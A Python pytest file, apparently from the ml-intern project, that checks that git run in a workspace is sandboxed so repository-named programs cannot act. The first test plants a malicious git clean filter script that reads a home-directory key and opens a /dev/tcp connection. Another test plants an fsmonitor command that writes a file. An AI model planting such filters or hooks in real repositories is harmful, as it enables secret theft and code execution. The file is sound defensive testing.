"""A git that ml-intern runs in a workspace reads it, and a program that the repository names can do nothing."""

import os
import select
import socket
import subprocess
import time
from pathlib import Path

import pytest

from ml_intern.runs.record import git_commit
from ml_intern.sandbox.basic.landlock import landlock
from ml_intern.sandbox.bubblewrap import sandbox_problem
from ml_intern.sandbox.git.reader import kill_git, open_git

KINDS = (
    pytest.param("bubblewrap", marks=pytest.mark.skipif(sandbox_problem() is not None, reason=str(sandbox_problem()))),
    pytest.param("landlock", marks=pytest.mark.skipif(landlock() is None, reason="this kernel has no Landlock")),
)


@pytest.fixture(params=KINDS, autouse=True)
def kind(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """What restricts git: bubblewrap, or Landlock where it is missing."""
    if request.param == "landlock":
        monkeypatch.setattr("ml_intern.sandbox.git.reader.sandbox_problem", lambda: ("missing", "install it"))
    return str(request.param)


IDENTITY = ("-c", "user.name=n", "-c", "user.email=e@x")


def repository(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", path], check=True)
    (path / "a").write_text("a")
    subprocess.run(["git", "-C", path, "add", "a"], check=True)
    subprocess.run(["git", "-C", path, *IDENTITY, "commit", "-qm", "one"], check=True)
    return path


def ask(folder: Path, *arguments: str) -> "subprocess.CompletedProcess[str]":
    with (
        open_git(arguments, folder) as git,
        git.start(stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=folder) as process,
    ):
        out, err = process.communicate(timeout=60)
    return subprocess.CompletedProcess([], process.returncode, out.decode(), err.decode())


def test_a_program_that_the_repository_names_changes_and_reaches_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    (tmp_path / "home/key").write_text("secret")
    workspace, report = repository(tmp_path / "ws"), tmp_path / "report"
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    evil = workspace / "evil"
    evil.write_text(
        f"#!/bin/bash\n(touch {report} {workspace}/made; cat {tmp_path}/home/key; (exec 3<>/dev/tcp/127.0.0.1/{port}))"
        " >&2\ncat\n"
    )
    evil.chmod(0o755)
    subprocess.run(["git", "-C", workspace, "config", "filter.x.clean", str(evil)], check=True)
    (workspace / ".gitattributes").write_text("a filter=x\n")
    os.utime(workspace / "a", (1, 1))
    done = ask(workspace, "status", "--porcelain")
    assert "Read-only" in done.stderr or "Permission denied" in done.stderr  # the filter ran
    with server:
        assert select.select([server], [], [], 0)[0] == []  # no connection waits
    assert "secret" not in done.stderr
    assert not report.exists()
    assert not (workspace / "made").exists()


def test_git_reads_a_repository_from_a_folder_within_and_from_a_linked_work_tree(tmp_path: Path) -> None:
    top = repository(tmp_path / "ws")
    (top / "part").mkdir()
    subprocess.run(["git", "-C", top, "worktree", "add", "-q", tmp_path / "other"], check=True)
    head = subprocess.run(["git", "-C", top, "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout
    assert {git_commit(folder) for folder in (top, top / "part", tmp_path / "other")} == {head.strip()}
    assert git_commit(tmp_path) == ""


def test_without_a_sandbox_git_runs_no_monitor_and_no_hook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ml_intern.sandbox.git.reader.sandbox_problem", lambda: ("missing", "install it"))
    monkeypatch.setattr("ml_intern.sandbox.git.reader.landlock", lambda: None)
    workspace = repository(tmp_path / "ws")
    subprocess.run(["git", "-C", workspace, "config", "core.fsmonitor", f"touch {tmp_path}/ran"], check=True)
    assert ask(workspace, "status").returncode == 0
    assert not (tmp_path / "ran").exists()


def test_a_git_that_is_killed_while_its_sandbox_starts_closes_its_output(tmp_path: Path) -> None:
    folder = repository(tmp_path / "ws")
    for attempt in range(60):
        with open_git(("cat-file", "--batch"), folder) as git:
            process = git.start(cwd=folder, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        time.sleep(attempt / 10_000)
        kill_git(process)
        process.communicate(timeout=20)
